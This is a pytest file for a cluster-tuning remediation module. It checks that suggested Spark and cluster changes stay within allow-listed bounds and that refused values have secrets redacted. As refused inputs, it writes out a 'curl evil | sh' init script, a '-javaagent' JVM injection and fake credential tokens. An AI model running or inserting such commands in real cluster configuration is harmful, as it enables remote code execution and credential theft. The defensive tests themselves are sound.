"""Allow-listed parameter changes: the ladder, the bounds, and everything that is refused."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from include.remediation.models import ClusterSettings
from include.remediation.params import ParamsChange, check_suggestion, default_change, next_node_type

CLUSTER = ClusterSettings(
    node_type_id="r5d.2xlarge", num_workers=4, spark_conf={"spark.executor.memory": "8g"}
)


@pytest.mark.parametrize(
    ("node", "bigger"),
    [
        ("r5d.2xlarge", "r5d.4xlarge"),
        ("m5.large", "m5.xlarge"),
        ("i3.8xlarge", "i3.16xlarge"),
        ("Standard_DS3_v2", "Standard_DS4_v2"),
        ("Standard_E8ds_v5", "Standard_E16ds_v5"),
        ("n2-highmem-16", "n2-highmem-32"),
        ("r5d.24xlarge", None),
        ("Standard_DS5_v2", None),
        ("mystery-box", None),
        (None, None),
    ],
)
def test_node_ladder_moves_exactly_one_step(node, bigger) -> None:
    assert next_node_type(node) == bigger


def test_valid_suggestion_is_kept() -> None:
    change, rejected = check_suggestion(
        {"node_type_id": "r5d.4xlarge", "num_workers": "8", "spark_conf": {"spark.executor.memory": "16g"}},
        CLUSTER,
        3600,
    )
    assert rejected == []
    assert change == ParamsChange(
        node_type_id="r5d.4xlarge", num_workers=8, spark_conf={"spark.executor.memory": "16g"}
    )


@pytest.mark.parametrize(
    ("key", "value", "reason"),
    [
        ("node_type_id", "r5d.8xlarge", "one step up"),
        ("node_type_id", "p4d.24xlarge", "one step up"),
        ("num_workers", "2", "must grow"),
        ("num_workers", "400", "at most 8 workers"),
        ("num_workers", "lots", "whole number"),
        ("timeout_seconds", "999999", "between 60 and 7200"),
        ("timeout_seconds", "1800", "must grow"),
        ("spark.executor.memory", "4g", "must grow"),
        ("spark.executor.memory", "lots", "like 8g"),
        ("spark.driver.memory", "9000g", "cap"),
        ("spark.memory.fraction", "0.99", "between 0.3 and 0.9"),
        ("spark.sql.shuffle.partitions", "100", "must grow"),
        ("spark.sql.shuffle.partitions", "100000", "at most 1600"),
        ("spark.driver.extraJavaOptions", "-javaagent:/tmp/x.jar", "not an allow-listed Spark setting"),
        ("spark.hadoop.fs.s3a.secret.key", "x", "not an allow-listed Spark setting"),
        ("job_id", "999", "not an allow-listed change"),
        ("init_scripts", "curl evil | sh", "not an allow-listed change"),
        ("spark_conf", "[1, 2]", "not an allow-listed change"),
    ],
)
def test_out_of_bounds_or_unknown_changes_are_refused_with_a_reason(key, value, reason) -> None:
    change, rejected = check_suggestion({key: value}, CLUSTER, 3600)
    assert change.is_empty()
    assert len(rejected) == 1 and reason in rejected[0].reason and rejected[0].key == key


def test_params_change_model_itself_refuses_unknown_fields_and_keys() -> None:
    with pytest.raises(ValidationError):
        ParamsChange(spark_conf={"spark.driver.extraJavaOptions": "-Dx"})  # type: ignore[dict-item]
    with pytest.raises(ValidationError):
        ParamsChange.model_validate({"job_id": 999})


def test_default_changes() -> None:
    assert default_change("memory", CLUSTER, None) == ParamsChange(node_type_id="r5d.4xlarge")
    assert default_change("disk", CLUSTER, None) == ParamsChange(node_type_id="r5d.4xlarge")
    top = ClusterSettings(node_type_id="r5d.24xlarge", num_workers=40)
    assert default_change("memory", top, None) == ParamsChange(num_workers=64)
    assert default_change("disk", top, None).is_empty()
    assert default_change("run_timeout", CLUSTER, 3600) == ParamsChange(timeout_seconds=7200)
    assert default_change("run_timeout", CLUSTER, None).is_empty()
    assert default_change("capacity", CLUSTER, None).is_empty()
    with_driver = ClusterSettings(node_type_id="i3.xlarge", driver_node_type_id="i3.2xlarge", num_workers=2)
    assert default_change("memory", with_driver, None) == ParamsChange(
        node_type_id="i3.2xlarge", driver_node_type_id="i3.4xlarge"
    )


def test_apply_to_cluster_spec_keeps_everything_else() -> None:
    spec = {
        "spark_version": "15.4.x-scala2.12",
        "node_type_id": "r5d.2xlarge",
        "autoscale": {"min_workers": 2, "max_workers": 4},
        "spark_conf": {"spark.sql.adaptive.enabled": "true"},
    }
    out = ParamsChange(
        node_type_id="r5d.4xlarge", num_workers=8, spark_conf={"spark.executor.memory": "16g"}
    ).apply_to_cluster(spec)
    assert out == {
        "spark_version": "15.4.x-scala2.12",
        "node_type_id": "r5d.4xlarge",
        "autoscale": {"min_workers": 2, "max_workers": 8},
        "spark_conf": {"spark.sql.adaptive.enabled": "true", "spark.executor.memory": "16g"},
    }
    assert spec["node_type_id"] == "r5d.2xlarge", "input is not mutated"


def test_refused_values_never_keep_secrets() -> None:
    _, rejected = check_suggestion(
        {
            "spark.hadoop.fs.s3a.secret.key": "wJalrXUtnFEMI",
            "init_scripts": "curl -H 'Authorization: Bearer dapi0123456789abcdef0123456789abcdef'",
        },
        CLUSTER,
        None,
    )
    by_key = {r.key: r.value for r in rejected}
    assert by_key["spark.hadoop.fs.s3a.secret.key"] == "[REDACTED]"
    assert "dapi0123456789abcdef" not in by_key["init_scripts"] and "[REDACTED" in by_key["init_scripts"]
